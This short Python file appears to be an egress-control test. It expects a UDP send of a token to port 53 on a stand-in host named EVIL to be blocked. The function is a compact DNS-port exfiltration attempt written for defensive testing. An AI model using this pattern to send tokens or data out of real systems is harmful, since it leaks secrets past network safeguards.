"""
how: UDP to the port of DNS
expect: shut
"""

from land import EVIL
from sockets import udp


def attempt(token):
    return udp(EVIL, 53, token)
